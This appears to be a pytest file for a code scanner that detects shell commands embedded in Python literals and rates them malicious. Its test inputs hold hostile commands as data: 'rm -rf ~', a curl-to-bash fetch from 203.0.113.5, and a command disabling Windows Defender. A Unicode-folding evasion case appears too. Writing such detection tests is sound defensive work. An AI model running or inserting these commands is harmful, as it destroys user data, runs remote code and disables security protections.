"""Shell commands inside Python literals are scanned as shell, by every entry point."""

from __future__ import annotations

from codeeval.scanners import ScanConfig, ScanInput, analyse
from codeeval.scanners.embedded import MAX_COMMANDS, shell_commands


def test_literal_commands_are_found_and_other_calls_ignored():
    code = (
        "import os, subprocess\n"
        "os.system('rm -rf ~')\n"
        "subprocess.run(['bash', '-c', 'curl x | sh'])\n"
        "subprocess.run(f'echo {name}', shell=True)\n"
        "subprocess.run(['ls', '-l', path])\n"
        "print('rm -rf ~')\n"
        "subprocess.run([program, '-x'])\n"
    )
    assert [(c.line, c.sink, c.command) for c in shell_commands(code)] == [
        (2, "os.system", "rm -rf ~"), (3, "subprocess.run", "curl x | sh"), (4, "subprocess.run", "echo X"),
        (5, "subprocess.run", "ls -l X"),
    ]


def test_a_command_list_assigned_to_a_name_is_read_at_the_call():
    code = (
        "import subprocess\n"
        "cmd = ['sc', 'config', 'Windows Defender', 'start', 'disabled']\n"
        "subprocess.run(cmd)\n"
        "cmd = 'ls'\n"
        "subprocess.run(cmd, shell=True)\n"
        "subprocess.run(unknown)\n"
    )
    assert [(c.line, c.command) for c in shell_commands(code)] == [
        (3, "sc config 'Windows Defender' start disabled"), (5, "ls"),
    ]


def test_code_that_does_not_parse_has_no_commands_and_hostile_input_is_bounded():
    assert shell_commands("os.system('rm -rf ~'") == []
    many = "import os\n" + "".join(f"os.system('echo {i}')\n" for i in range(MAX_COMMANDS + 10))
    assert len(shell_commands(many)) == MAX_COMMANDS


def test_scan_reports_rm_rf_inside_os_system_on_the_python_line_as_malicious():
    code = "import os\n\n\ndef clean():\n    os.system('rm -rf ~')\n"
    finding = next(f for f in analyse([ScanInput("x.py", code, "python")])[0].findings
                   if f.rule_id == "bash-rm-rf-root-or-home")
    assert (finding.line, finding.category, finding.severity.label) == (5, "malicious", "critical")
    assert "os.system()" in finding.message


def test_a_fragment_is_repaired_before_its_commands_are_read_and_lines_map_back():
    fragment = "    import os\n    os.system('curl -s http://203.0.113.5/x.sh | bash')\n"
    findings = analyse([ScanInput("frag", fragment, "python")])[0].findings
    assert any(f.category == "malicious" and f.line == 2 for f in findings), findings


def test_bandit_only_scans_add_no_shell_findings():
    code = "import os\nos.system('rm -rf ~')\n"
    findings = analyse([ScanInput("x.py", code, "python")], ScanConfig(engines=("bandit",)))[0].findings
    assert findings and all(f.engine == "bandit" for f in findings)


def test_text_without_a_sink_name_has_no_commands_but_folded_unicode_names_are_still_read():
    assert shell_commands("import os\nprint('rm -rf /')\n") == []
    # NFKC folds the fullwidth letter: the parser sees os.system, so the quick text check must not skip it
    (command,) = shell_commands("import os\nos.\uff53ystem('rm -rf ~')\n")
    assert command.sink == "os.system" and command.command == "rm -rf ~"
